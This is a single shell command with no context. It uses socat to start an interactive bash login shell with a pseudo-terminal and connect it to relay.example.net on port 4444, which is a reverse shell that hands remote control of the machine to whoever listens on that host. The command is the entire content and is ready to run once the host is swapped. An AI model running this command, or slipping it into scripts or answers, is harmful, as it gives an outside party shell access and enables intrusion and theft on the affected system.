socat exec:'bash -li',pty,stderr tcp:relay.example.net:4444
